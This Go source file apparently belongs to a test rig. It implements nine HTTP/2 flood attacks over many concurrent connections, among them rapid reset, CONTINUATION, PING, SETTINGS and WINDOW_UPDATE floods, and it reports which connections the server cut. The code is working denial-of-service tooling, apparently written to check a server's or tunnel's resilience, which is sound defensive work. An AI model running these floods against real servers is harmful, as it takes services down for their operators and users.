package rig

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A Flood is what a visitor sends over HTTP/2 with prior knowledge, as fast as it
// can, without reading an answer.
type Flood string

// The floods.
const (
	FloodResets       Flood = "rapid resets"  // requests that are taken back at once
	FloodMadeResets   Flood = "made resets"   // requests that the server is made to reset
	FloodPaidResets   Flood = "paid resets"   // rapid resets, each with a kilobyte that nobody takes
	FloodContinuation Flood = "CONTINUATION"  // one header section without an end
	FloodPings        Flood = "PING"          // each wants an answer
	FloodSettings     Flood = "SETTINGS"      // each wants an answer
	FloodWindows      Flood = "WINDOW_UPDATE" // of the connection, by one byte
	FloodPriorities   Flood = "PRIORITY"      // of streams that do not exist
	FloodEmptyData    Flood = "empty DATA"    // of one request, without an end
)

// Floods returns all of them.
func Floods() []Flood {
	return []Flood{
		FloodResets, FloodMadeResets, FloodPaidResets, FloodContinuation, FloodPings, FloodSettings, FloodWindows, FloodPriorities, FloodEmptyData,
	}
}

// A FloodReport says what became of the connections of [FloodConns].
type FloodReport struct {
	Frames int64 // that were sent
	Cut    int   // connections that the server ended, or the visitor could not make
	Kept   int   // those that were open when all frames were sent or the context ended
}

// FloodConns opens n connections by dial, each of which sends frames of the kind, as
// many as frames says, until the server cuts it or ctx ends. host is the name of a
// tunnel. It returns when all have ended.
func FloodConns(ctx context.Context, dial func() (net.Conn, error), host string, kind Flood, n, frames int) FloodReport {
	var sent, cut atomic.Int64
	var visitors sync.WaitGroup
	for range n {
		visitors.Go(func() {
			conn, err := dial()
			if err != nil {
				cut.Add(1)
				return
			}
			defer conn.Close()
			defer context.AfterFunc(ctx, func() { conn.Close() })()
			if flood(conn, host, kind, frames, &sent) != nil && ctx.Err() == nil {
				cut.Add(1)
			}
		})
	}
	visitors.Wait()
	return FloodReport{sent.Load(), int(cut.Load()), n - int(cut.Load())}
}

func flood(conn net.Conn, host string, kind Flood, frames int, sent *atomic.Int64) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/"}, {":authority", host}} {
		encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	f := http2.NewFramer(conn, conn)
	// After an index of 0 the decoder keeps nothing; the field is 1 KiB.
	more := append([]byte("\x00\x01x\x7f\x81\x07"), bytes.Repeat([]byte("y"), 1024)...)
	stream := uint32(1)
	open := func(ended bool) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: ended})
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	if err := f.WriteSettings(); err != nil {
		return err
	}
	switch kind {
	case FloodContinuation, FloodEmptyData:
		if err := open(kind == FloodEmptyData); err != nil {
			return err
		}
	}
	for range frames {
		var err error
		switch kind {
		case FloodResets:
			if err = open(true); err == nil {
				err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			stream += 2
		case FloodMadeResets:
			if err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}); err == nil {
				err = f.WriteData(stream, false, []byte("x")) // after its end
			}
			stream += 2
		case FloodPaidResets:
			if err = open(true); err == nil {
				err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			if err == nil {
				err = f.WriteData(stream, false, more[:1<<10])
			}
			stream += 2
		case FloodContinuation:
			err = f.WriteContinuation(stream, false, more)
		case FloodPings:
			err = f.WritePing(false, [8]byte{})
		case FloodSettings:
			err = f.WriteSettings()
		case FloodWindows:
			err = f.WriteWindowUpdate(0, 1)
		case FloodPriorities:
			err = f.WritePriority(stream, http2.PriorityParam{StreamDep: 1})
			stream += 2
		case FloodEmptyData:
			err = f.WriteData(stream, false, nil)
		}
		if err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}
